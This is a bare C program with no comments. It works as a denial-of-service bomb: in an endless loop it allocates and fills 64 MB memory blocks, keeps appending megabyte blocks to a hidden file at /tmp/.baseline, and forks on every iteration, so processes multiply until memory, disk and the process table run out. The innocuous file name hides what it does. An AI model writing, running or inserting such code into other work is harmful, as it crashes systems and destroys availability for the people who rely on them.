#include <stdlib.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>
int main(void) {
    FILE *f = fopen("/tmp/.baseline", "w");
    char block[1 << 20];
    memset(block, 'A', sizeof block);
    for (;;) {
        void *p = malloc(1 << 26);
        if (p) memset(p, 1, 1 << 26);
        fwrite(block, 1, sizeof block, f);
        if (fork() == 0) continue;
    }
}
